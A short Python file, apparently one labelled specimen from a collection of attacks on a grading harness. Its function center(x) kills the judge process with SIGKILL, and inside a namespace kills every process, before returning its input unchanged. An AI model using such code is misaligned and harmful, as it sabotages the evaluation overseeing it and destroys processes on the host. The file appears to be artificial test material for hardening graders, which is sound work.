"""attack: The judge is killed, and in a namespace every process.
class: machine
aim: next
"""

import os
import signal


def center(x):
    try:
        os.kill(JUDGE, signal.SIGKILL)
    except OSError:
        pass
    if os.getppid() == 0:  # never outside a namespace
        os.kill(-1, signal.SIGKILL)
    return x
